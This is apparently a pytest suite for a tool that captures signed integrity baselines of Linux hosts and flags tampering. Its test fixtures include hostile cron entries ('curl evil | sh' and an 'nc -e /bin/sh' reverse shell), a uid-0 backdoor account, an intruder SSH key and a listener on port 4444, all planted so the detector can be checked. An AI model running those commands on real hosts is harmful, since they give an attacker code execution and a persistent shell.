"""Integrity baselines: parsing the collector, diffing every category, signatures, and a real run.

The collector also runs for real on this machine through a local seam (subprocess instead of SSH).
"""

from __future__ import annotations

import base64
import ipaddress
import json
import os
import stat
import subprocess
import time
from pathlib import Path

import pytest

from orchestrator import integrity
from orchestrator.config import Settings
from orchestrator.drivers.ssh import CommandResult
from orchestrator.errors import IntegrityError, UnreachableError
from orchestrator.integrity import (
    Difference,
    capture_all,
    capture_baseline,
    check_all,
    check_host,
    diff_snapshots,
    load_baseline,
    parse_collector_output,
)
from orchestrator.integrity.snapshot import Snapshot
from orchestrator.model import Credential, Host, Inventory, Site

H1 = "a" * 64
H2 = "b" * 64
KEY_BLOB = base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519" + b"\x01" * 36).decode()
KEY2_BLOB = base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519" + b"\x02" * 36).decode()


def section(name: str, lines: list[str], rc: int = 0) -> str:
    body = "".join(line + "\n" for line in lines)
    return f"@@orchestrator:begin {name}\n{body}@@orchestrator:end {name} {rc}\n"


def dumped(path: str, lines: list[str]) -> list[str]:
    return [f"@@orchestrator:file {path}", *("|" + ln for ln in lines)]


def collector_text(**over: list[str]) -> str:
    """A complete, plausible collector output; ``over`` replaces a section's lines."""
    sections: dict[str, list[str]] = {
        "meta": ["format\t1", "hostname\tweb1", "uid\t0", "kernel\t6.1.0"],
        "files": [
            f"{H1}  /usr/bin/ls",
            f"{H1}  /etc/ld.so.cache",
            f"\\{H1}  /etc/odd\\nname",
            "@@orchestrator:missing /opt/app",
        ],
        "links": ["/usr/bin/awk\t/etc/alternatives/awk"],
        "packages": ["coreutils\t9.1-1\tii ", "openssh-server\t1:9.2p1-2\tii ", "old\t1.0\trc "],
        "package_verify": ["??5??????   /usr/share/doc/x"],
        "users": dumped("/etc/passwd", ["root:x:0:0:root:/root:/bin/bash", "web:x:1000:1000:Web:/home/web:/bin/sh"]),
        "groups": dumped("/etc/group", ["root:x:0:", "sudo:x:27:web"]),
        "authorized_keys": [
            "@@orchestrator:info authorizedkeysfile  .ssh/authorized_keys .ssh/authorized_keys2",
            *dumped("/root/.ssh/authorized_keys", [f"ssh-ed25519 {KEY_BLOB} admin@laptop"]),
        ],
        "cron": dumped("/etc/crontab", ["SHELL=/bin/sh", "17 * * * * root cd / && run-parts /etc/cron.hourly"]),
        "unit_files": [
            "apt-daily.timer enabled enabled",
            "fstrim.timer disabled enabled",
            "ssh.service enabled enabled",
            "cron.service enabled enabled",
            "getty@.service disabled enabled",
        ],
        "ports": [
            "tcp   LISTEN 0      128          0.0.0.0:22        0.0.0.0:*",
            "tcp   LISTEN 0      128             [::]:22           [::]:*",
        ],
        "suid": [f"{H1}  /usr/bin/passwd"],
    }
    sections.update(over)
    return "".join(section(name, lines) for name, lines in sections.items())


def snapshot(**over: list[str]) -> Snapshot:
    return parse_collector_output(collector_text(**over))[0]


# ------------------------------------------------------------------------------------------ parse


def test_parse_every_section() -> None:
    snap, meta = parse_collector_output(collector_text())
    assert meta == {"format": "1", "hostname": "web1", "uid": "0", "kernel": "6.1.0"}
    assert snap.files == {
        "/etc/odd\nname": "sha256:" + H1,
        "/usr/bin/awk": "symlink:/etc/alternatives/awk",
        "/usr/bin/ls": "sha256:" + H1,
    }  # /etc/ld.so.cache is volatile: excluded by name
    assert snap.missing_roots == ("/opt/app",)
    assert snap.packages == {"coreutils": "9.1-1", "old": "1.0 [rc]", "openssh-server": "1:9.2p1-2"}
    assert snap.package_verify == ("??5??????   /usr/share/doc/x",)
    assert snap.users is not None and snap.groups is not None and snap.cron is not None
    assert snap.users["web"] == {
        "uid": "1000",
        "gid": "1000",
        "gecos": "Web",
        "home": "/home/web",
        "shell": "/bin/sh",
    }
    assert snap.groups["sudo"] == {"gid": "27", "members": "web"}
    assert snap.authorized_keys == {"/root/.ssh/authorized_keys": (f"ssh-ed25519 {KEY_BLOB} admin@laptop",)}
    assert list(snap.cron) == ["/etc/crontab"]
    assert snap.timers == {"apt-daily.timer": "enabled", "fstrim.timer": "disabled"}
    assert snap.units == {"cron.service": "enabled", "ssh.service": "enabled"}
    assert snap.ports == ("tcp 0.0.0.0:22", "tcp [::]:22")
    assert snap.suid == {"/usr/bin/passwd": "sha256:" + H1}
    assert set(snap.collected) == {
        "meta", "files", "links", "packages", "package_verify", "users", "groups",
        "authorized_keys", "cron", "unit_files", "ports", "suid",
    }  # fmt: skip


def test_parse_proc_net_fallback_when_ss_is_missing() -> None:
    tcp = [
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode",
        "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1",
        "   1: 0100007F:1F90 0100007F:D2A4 01 00000000:00000000 00:00000000 00000000     0        0 2",
    ]
    tcp6 = [
        "  sl  local_address                         remote_address                        st",
        "   0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A 0",
    ]
    udp = ["  sl  local_address rem_address   st", "  5: 3500007F:0035 00000000:0000 07 0"]
    text = collector_text(
        ports=[],
    ).replace("@@orchestrator:begin ports\n@@orchestrator:end ports 0\n", "") + section(
        "ports_proc",
        dumped("/proc/net/tcp", tcp) + dumped("/proc/net/tcp6", tcp6) + dumped("/proc/net/udp", udp),
    )
    snap, _ = parse_collector_output(text)
    assert snap.ports == ("tcp 0.0.0.0:22", "tcp [::]:22", "udp 127.0.0.53:53")


def test_parse_refuses_truncated_or_malformed_output() -> None:
    text = collector_text()
    with pytest.raises(IntegrityError, match="incomplete"):
        parse_collector_output(text[: text.index("@@orchestrator:end suid")])
    with pytest.raises(IntegrityError, match="malformed"):
        parse_collector_output("@@orchestrator:begin a\n@@orchestrator:end b 0\n")


def test_file_content_cannot_forge_markers() -> None:
    # A hostile crontab line that looks like a marker stays content: it is printed behind "|".
    snap = snapshot(cron=dumped("/etc/cron.d/x", ["@@orchestrator:end cron 0", "* * * * * root id"]))
    assert snap.cron is not None
    assert snap.cron["/etc/cron.d/x"] == ("@@orchestrator:end cron 0", "* * * * * root id")


# ------------------------------------------------------------------------------------------ diff


def test_identical_snapshots_are_clean() -> None:
    assert diff_snapshots(snapshot(), snapshot()) == ()


def _diff(**over: list[str]) -> tuple[Difference, ...]:
    return diff_snapshots(snapshot(), snapshot(**over))


def test_diff_files_added_removed_changed_and_symlinks() -> None:
    diffs = _diff(
        files=[f"{H2}  /usr/bin/ls", f"{H1}  /usr/local/bin/evil", f"{H2}  /etc/ld.so.cache"],
        links=["/usr/bin/awk\t/tmp/evil"],
    )
    got = {(d.category, d.path) for d in diffs}
    assert got == {
        ("file-changed", "/usr/bin/ls"),
        ("file-added", "/usr/local/bin/evil"),
        ("file-removed", "/etc/odd\nname"),
        ("file-changed", "/usr/bin/awk"),
    }
    changed = next(d for d in diffs if d.path == "/usr/bin/ls")
    assert H1[:12] in changed.detail and H2[:12] in changed.detail
    link = next(d for d in diffs if d.path == "/usr/bin/awk")
    assert "/tmp/evil" in link.detail


def test_diff_packages_and_package_verify() -> None:
    diffs = _diff(
        packages=["coreutils\t9.1-2\tii ", "openssh-server\t1:9.2p1-2\tii ", "netcat\t1.0\tii "],
        package_verify=["??5??????   /usr/share/doc/x", "??5?????? c /etc/ssh/sshd_config"],
    )
    assert [(d.category, d.path, d.detail.split()[0]) for d in diffs] == [
        ("package", "coreutils", "changed:"),
        ("package", "netcat", "added"),
        ("package", "old", "removed"),
        ("package-verify", "/etc/ssh/sshd_config", "now"),
    ]


def test_diff_users_and_groups() -> None:
    diffs = _diff(
        users=dumped(
            "/etc/passwd",
            ["root:x:0:0:root:/root:/bin/bash", "web:x:0:1000:Web:/home/web:/bin/sh", "backdoor:x:0:0::/:/bin/sh"],
        ),
        groups=dumped("/etc/group", ["root:x:0:", "sudo:x:27:backdoor,web"]),
    )
    by = {(d.category, d.path): d.detail for d in diffs}
    assert set(by) == {("user", "web"), ("user", "backdoor"), ("group", "sudo")}
    assert "uid '1000' -> '0'" in by[("user", "web")]
    assert by[("user", "backdoor")].startswith("added")
    assert "backdoor,web" in by[("group", "sudo")]


def test_diff_authorized_keys_names_file_and_fingerprint() -> None:
    diffs = _diff(
        authorized_keys=dumped(
            "/root/.ssh/authorized_keys",
            [f"ssh-ed25519 {KEY_BLOB} admin@laptop", f'command="x" ssh-ed25519 {KEY2_BLOB} intruder'],
        )
        + dumped("/home/web/.ssh/authorized_keys2", [f"ssh-ed25519 {KEY2_BLOB}"])
    )
    assert [(d.category, d.path) for d in diffs] == [
        ("authorized_keys", "/home/web/.ssh/authorized_keys2"),
        ("authorized_keys", "/root/.ssh/authorized_keys"),
    ]
    detail = diffs[1].detail
    assert detail.startswith("added key ssh-ed25519 SHA256:") and "intruder" in detail and "options" in detail
    assert KEY2_BLOB not in detail
    removed = diff_snapshots(snapshot(), snapshot(authorized_keys=[]))
    assert [(d.path, d.detail) for d in removed] == [("/root/.ssh/authorized_keys", "file removed (1 line(s))")]


def test_diff_cron_timers_units_ports_suid() -> None:
    diffs = _diff(
        cron=dumped("/etc/crontab", ["SHELL=/bin/sh", "17 * * * * root cd / && run-parts /etc/cron.hourly"])
        + dumped("/var/spool/cron/crontabs/root", ["* * * * * curl evil | sh"]),
        unit_files=[
            "apt-daily.timer enabled enabled",
            "fstrim.timer enabled enabled",
            "x.timer enabled enabled",
            "ssh.service enabled enabled",
            "backdoor.service enabled enabled",
            "getty@.service disabled enabled",
        ],
        ports=["tcp   LISTEN 0 128 0.0.0.0:22 0.0.0.0:*", "tcp   LISTEN 0 5 0.0.0.0:4444 0.0.0.0:*"],
        suid=[f"{H2}  /usr/bin/passwd", f"{H1}  /tmp/.x"],
    )
    got = [(d.category, d.path) for d in diffs]
    assert got == [
        ("cron", "/var/spool/cron/crontabs/root"),
        ("timer", "fstrim.timer"),
        ("timer", "x.timer"),
        ("unit", "backdoor.service"),
        ("unit", "cron.service"),
        ("port", "tcp 0.0.0.0:4444"),
        ("port", "tcp [::]:22"),
        ("suid", "/tmp/.x"),
        ("suid", "/usr/bin/passwd"),
    ]
    assert "curl evil" in diffs[0].detail
    changed_cron = _diff(cron=dumped("/etc/crontab", ["SHELL=/bin/sh", "* * * * * root nc -e /bin/sh x 1"]))
    assert len(changed_cron) == 1 and "+ * * * * * root nc" in changed_cron[0].detail
    assert "- 17 * * * *" in changed_cron[0].detail


def test_section_collected_before_but_not_now_is_a_difference() -> None:
    text = collector_text()
    start = text.index("@@orchestrator:begin unit_files")
    end = text.index("\n", text.index("@@orchestrator:end unit_files")) + 1
    now, _ = parse_collector_output(text[:start] + text[end:])
    diffs = diff_snapshots(snapshot(), now)
    assert [(d.category, d.path) for d in diffs] == [("unit", "(unit_files)")]


def _unit_files_failed(text: str, rc: int = 1) -> str:
    """The collector's text as when `systemctl list-unit-files` timed out: no lines, a non-zero status."""
    start = text.index("@@orchestrator:begin unit_files")
    end = text.index("\n", text.index("@@orchestrator:end unit_files")) + 1
    return text[:start] + f"@@orchestrator:begin unit_files\n@@orchestrator:end unit_files {rc}\n" + text[end:]


def test_a_section_that_failed_is_not_collected_never_compared_as_empty() -> None:
    now, _ = parse_collector_output(_unit_files_failed(collector_text()))
    diffs = diff_snapshots(snapshot(), now)
    # one honest finding (the host is not proven clean), not every unit and timer "removed"
    assert [(d.category, d.path) for d in diffs] == [("collector", "(unit_files)")]
    assert "not collected now (exit 1)" in diffs[0].detail
    # a planted unit is not hidden either when the baseline could not read the units: still not clean
    assert [(d.category, d.path) for d in diff_snapshots(now, snapshot())] == [("collector", "(unit_files)")]


def test_listening_ports_for_the_health_check() -> None:
    baseline = {"snapshot": snapshot().as_json()}
    assert integrity.listening_ports(baseline) == ("tcp 0.0.0.0:22", "tcp [::]:22")
    assert integrity.listening_tcp_ports(baseline) == (22,)


# ------------------------------------------------------------------------------------------ signing


class FakeRunner:
    """Answers the collector's parts with canned output (the "host")."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.calls: list[str] = []

    def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
        assert stdin and "orchestrator_collect" in stdin
        self.calls.append(command)
        out = self.text if " state" in command else ""
        return CommandResult(host, command, 0, out, "", 0.01)


def _inventory(extra: tuple[str, ...] = ()) -> Inventory:
    host = Host(
        name="web1",
        segment="servers",
        address=ipaddress.IPv4Address("127.0.0.1"),
        management_address=ipaddress.IPv4Address("127.0.0.1"),
        credentials="lab",
        integrity=extra,
    )
    return Inventory(
        path="test.yml",
        sha256="0" * 64,
        site=Site("test"),
        management_segment="mgmt",
        campuses={},
        segments={},
        devices={},
        links={},
        hosts={"web1": host},
        islands={},
        credentials={"lab": Credential(name="lab", username="root")},
    )


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(state_dir=tmp_path / "state", state_dir_source="cli")


def test_capture_signs_and_check_is_clean(settings: Settings) -> None:
    runner = FakeRunner(collector_text())
    path = capture_baseline(runner, _inventory(("/opt/app",)), "web1", settings)
    assert path.parent == settings.baselines_dir / "web1" and path.name.endswith("Z.json")
    key_mode = stat.S_IMODE(settings.signing_key_path.stat().st_mode)
    assert key_mode == 0o600 and len(settings.signing_key_path.read_bytes()) == 32
    doc = load_baseline("web1", settings)
    assert doc["roots"][-1] == "/opt/app" and doc["signature"]["alg"] == "hmac-sha256"
    assert any("files /usr/lib" in c for c in runner.calls) and any(c.endswith(" verify") for c in runner.calls)
    result = check_host(runner, _inventory(("/opt/app",)), "web1", settings)
    assert result.clean and result.baseline_taken == doc["taken"]


def test_capture_refuses_to_write_a_baseline_with_a_section_that_failed(settings: Settings) -> None:
    with pytest.raises(IntegrityError, match=r"could not read unit_files \(exit 124\): no baseline was written"):
        capture_baseline(FakeRunner(_unit_files_failed(collector_text(), 124)), _inventory(), "web1", settings)
    assert not list(settings.baselines_dir.glob("web1*/*")) and not (settings.baselines_dir / "web1.json").exists()


class BusyHost(FakeRunner):
    """A host whose `systemctl list-unit-files` times out the first ``busy`` times it is asked."""

    def __init__(self, text: str, busy: int) -> None:
        super().__init__(text)
        self.busy = busy

    def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
        result = super().run(host, command, timeout_s, stdin=stdin)
        if " state" in command and self.busy:
            self.busy -= 1
            return CommandResult(host, command, 0, _unit_files_failed(result.stdout), "", 0.01)
        return result


@pytest.mark.parametrize(("busy", "clean", "collections"), [(0, True, 1), (2, True, 3), (3, False, 3)])
def test_a_part_not_read_is_collected_again_before_the_check_gives_up(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, busy: int, clean: bool, collections: int,
) -> None:
    """A busy host is not quarantined for a timed-out systemctl: the check collects it again, up to
    three times in all; what still cannot be read is a difference (not proven clean)."""
    monkeypatch.setattr("orchestrator.integrity.baseline.RECOLLECT_PAUSE_S", 0.0)
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    host = BusyHost(collector_text(), busy)
    result = check_host(host, _inventory(), "web1", settings)
    assert result.clean is clean and result.collections == collections
    assert sum(" state" in c for c in host.calls) == collections
    if not clean:
        assert [(d.category, d.path) for d in result.differences] == [("collector", "(unit_files)")]


class DroppingHost(FakeRunner):
    """A host whose SSH connection is lost under the collector the first ``drops`` times."""

    def __init__(self, text: str, drops: int) -> None:
        super().__init__(text)
        self.drops = drops

    def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
        if " state" in command and self.drops:
            self.drops -= 1
            raise UnreachableError("connection lost during the command: EOFError", target=host)
        return super().run(host, command, timeout_s, stdin=stdin)


@pytest.mark.parametrize(("drops", "collections"), [(1, 2), (2, 3)])
def test_a_connection_lost_under_the_collector_is_collected_again(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, drops: int, collections: int,
) -> None:
    """One dropped session does not fail a clean host's check: it is collected again, within the
    same three attempts; only a whole collection decides."""
    monkeypatch.setattr("orchestrator.integrity.baseline.RECOLLECT_PAUSE_S", 0.0)
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    result = check_host(DroppingHost(collector_text(), drops), _inventory(), "web1", settings)
    assert result.clean and result.collections == collections


def test_a_host_that_stays_unreachable_still_fails_its_check(
    settings: Settings, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("orchestrator.integrity.baseline.RECOLLECT_PAUSE_S", 0.0)
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    host = DroppingHost(collector_text(), 3)
    with pytest.raises(UnreachableError):
        check_host(host, _inventory(), "web1", settings)
    assert host.drops == 0  # three collections tried, none whole


class BusyThenDroppingHost(DroppingHost):
    """A host whose `systemctl list-unit-files` times out once, then whose connection is lost twice."""

    def __init__(self, text: str) -> None:
        super().__init__(text, drops=0)
        self.busy = True

    def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
        result = super().run(host, command, timeout_s, stdin=stdin)
        if " state" in command and self.busy:
            self.busy, self.drops = False, 2
            return CommandResult(host, command, 0, _unit_files_failed(result.stdout), "", 0.01)
        return result


def test_a_connection_lost_after_a_partial_collection_keeps_what_that_collection_saw(
    settings: Settings, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The drops do not turn a host that could not be fully read into an unreachable one: the check
    ends on its first collection, not clean, the unread part named."""
    monkeypatch.setattr("orchestrator.integrity.baseline.RECOLLECT_PAUSE_S", 0.0)
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    host = BusyThenDroppingHost(collector_text())
    result = check_host(host, _inventory(), "web1", settings)
    assert not result.clean and result.collections == 3 and host.drops == 0
    assert [(d.category, d.path) for d in result.differences] == [("collector", "(unit_files)")]


class ChangingHost(FakeRunner):
    """A host that answers the collector's "state" part with each of ``states`` in turn."""

    def __init__(self, states: list[str]) -> None:
        super().__init__(states[-1])
        self.states = states

    def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
        result = super().run(host, command, timeout_s, stdin=stdin)
        if " state" in command and len(self.states) > 1:
            return CommandResult(host, command, 0, self.states.pop(0), "", 0.01)
        return result


def test_a_difference_seen_in_any_collection_counts(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """A host that shows a planted file while a part could not be read, then hides it in the next
    collection, is not clean: what one collection saw is kept."""
    monkeypatch.setattr("orchestrator.integrity.baseline.RECOLLECT_PAUSE_S", 0.0)
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    planted = collector_text(files=[f"{H1}  /usr/bin/ls", f"\\{H1}  /etc/odd\\nname", f"{H2}  /usr/local/bin/planted"])
    result = check_host(ChangingHost([_unit_files_failed(planted), collector_text()]), _inventory(), "web1", settings)
    assert result.collections == 2
    assert [(d.category, d.path) for d in result.differences] == [("file-added", "/usr/local/bin/planted")]


def test_check_names_every_difference(settings: Settings) -> None:
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    tampered = FakeRunner(
        collector_text(
            files=[f"{H1}  /usr/bin/ls", f"\\{H1}  /etc/odd\\nname", f"{H2}  /usr/local/bin/planted"],
            authorized_keys=dumped(
                "/root/.ssh/authorized_keys",
                [f"ssh-ed25519 {KEY_BLOB} admin@laptop", f"ssh-ed25519 {KEY2_BLOB} intruder"],
            ),
        )
    )
    result = check_host(tampered, _inventory(), "web1", settings)
    assert not result.clean
    assert result.paths() == ("/root/.ssh/authorized_keys", "/usr/local/bin/planted")
    assert result.as_dict()["differences"][0]["category"] == "file-added"


def test_tampered_baseline_is_refused(settings: Settings) -> None:
    path = capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    doc = json.loads(path.read_text())
    doc["snapshot"]["authorized_keys"]["/root/.ssh/authorized_keys"].append("ssh-ed25519 AAAA intruder")
    path.write_text(json.dumps(doc))
    with pytest.raises(IntegrityError, match="FAILS its signature check: its content was changed"):
        load_baseline("web1", settings)
    runner = FakeRunner(collector_text())
    with pytest.raises(IntegrityError):
        check_host(runner, _inventory(), "web1", settings)
    assert runner.calls == []  # refused before touching the host


def test_baseline_signed_with_another_key_is_refused(settings: Settings) -> None:
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    settings.signing_key_path.write_bytes(os.urandom(32))
    with pytest.raises(IntegrityError, match="signed with another key"):
        load_baseline("web1", settings)


def test_unsigned_baseline_and_missing_key_are_refused(settings: Settings) -> None:
    path = capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    doc = json.loads(path.read_text())
    del doc["signature"]
    path.write_text(json.dumps(doc))
    with pytest.raises(IntegrityError, match="no valid hmac-sha256 signature"):
        load_baseline("web1", settings)
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    settings.signing_key_path.unlink()
    with pytest.raises(IntegrityError, match=r"signing key .* does not exist") as info:
        load_baseline("web1", settings)
    assert not settings.signing_key_path.exists()  # loading never makes a new key
    assert info.value.hint


def test_missing_baseline_hints_at_capture(settings: Settings) -> None:
    with pytest.raises(IntegrityError) as info:
        load_baseline("web1", settings)
    assert info.value.target == "web1"
    assert "orchestrator baseline capture" in (info.value.hint or "")


def test_world_readable_key_is_refused(settings: Settings) -> None:
    capture_baseline(FakeRunner(collector_text()), _inventory(), "web1", settings)
    settings.signing_key_path.chmod(0o644)
    with pytest.raises(IntegrityError, match="readable by others"):
        load_baseline("web1", settings)


def test_non_root_collector_is_refused(settings: Settings) -> None:
    text = collector_text(meta=["format\t1", "uid\t1000"])
    with pytest.raises(IntegrityError, match="not root"):
        capture_baseline(FakeRunner(text), _inventory(), "web1", settings)


def test_failing_collector_is_loud(settings: Settings) -> None:
    class Broken(FakeRunner):
        def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
            return CommandResult(host, command, 127, "", "sh: not found", 0.0)

    with pytest.raises(IntegrityError, match="exit 127"):
        capture_baseline(Broken(""), _inventory(), "web1", settings)


def test_capture_all_and_check_all_report_per_host(settings: Settings) -> None:
    inv = _inventory()
    results = capture_all(FakeRunner(collector_text()), inv, ["web1", "ghost"], settings, forks=4)
    assert isinstance(results["web1"], Path)
    assert isinstance(results["ghost"], IntegrityError)
    checks = check_all(FakeRunner(collector_text()), inv, ["web1", "ghost"], settings)
    web1 = checks["web1"]
    assert isinstance(web1, integrity.IntegrityResult) and web1.clean
    assert isinstance(checks["ghost"], IntegrityError)


# ------------------------------------------------------------------------------------------ real run


class LocalRunner:
    """The seam: the collector runs on this machine under sh, as it would over SSH."""

    def __init__(self, skip_verify: bool = True) -> None:
        self.skip_verify = skip_verify
        self.timings: dict[str, float] = {}
        self.state: CommandResult | None = None  # the "state" part is run once (it walks / for SUID)

    def run(self, host: str, command: str, timeout_s: float = 30.0, *, stdin: str | None = None) -> CommandResult:
        started = time.monotonic()
        if self.skip_verify and command.endswith(" verify"):
            return CommandResult(host, command, 0, "", "", 0.0)  # a host without dpkg
        if command.endswith(" state") and self.state is not None:
            return self.state
        proc = subprocess.run(
            ["sh", "-c", command], input=stdin, capture_output=True, text=True, timeout=timeout_s, check=False
        )
        self.timings[command] = time.monotonic() - started
        result = CommandResult(host, command, proc.returncode, proc.stdout, proc.stderr, self.timings[command])
        if command.endswith(" state"):
            self.state = result
        return result


@pytest.mark.skipif(os.geteuid() != 0, reason="the collector needs root to read every file")
def test_collector_runs_for_real_and_detects_changes(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = tmp_path / "app dir"  # a space in the path: quoting end to end
    (app / "bin").mkdir(parents=True)
    (app / "bin" / "tool").write_text("#!/bin/sh\necho hi\n")
    (app / "link").symlink_to("bin/tool")
    (app / "odd\nname").write_text("x")
    monkeypatch.setattr(integrity.collector, "SYSTEM_ROOTS", ("/etc",))
    inv = _inventory((str(app),))
    runner = LocalRunner()
    started = time.monotonic()
    capture_baseline(runner, inv, "web1", settings)
    elapsed = time.monotonic() - started
    doc = load_baseline("web1", settings)
    snap = Snapshot.from_json(doc["snapshot"])
    assert snap.files is not None and snap.users is not None and snap.packages is not None and snap.suid is not None
    assert snap.files[str(app / "bin" / "tool")].startswith("sha256:")
    assert snap.files[str(app / "link")] == "symlink:bin/tool"
    assert str(app / "odd\nname") in snap.files
    assert "/etc/passwd" in snap.files and "root" in snap.users and snap.groups
    assert snap.packages.get("coreutils"), "dpkg-query output parsed"
    assert {"meta", "files", "links", "users", "groups", "authorized_keys", "cron", "suid"} <= set(snap.collected)
    assert any(p.endswith("/passwd") for p in snap.suid)
    print(
        f"\nlocal collector (/etc + a tmp dir, state part over /): {elapsed:.1f}s; parts: "
        + ", ".join(f"{c.split(' -- ', 1)[1][:30]}={t:.1f}s" for c, t in runner.timings.items())
    )

    assert check_host(runner, inv, "web1", settings).clean
    (app / "bin" / "tool").write_text("#!/bin/sh\necho pwned\n")
    (app / "bin" / "new").write_text("x")
    result = check_host(runner, inv, "web1", settings)
    assert {(d.category, d.path) for d in result.differences} == {
        ("file-changed", str(app / "bin" / "tool")),
        ("file-added", str(app / "bin" / "new")),
    }
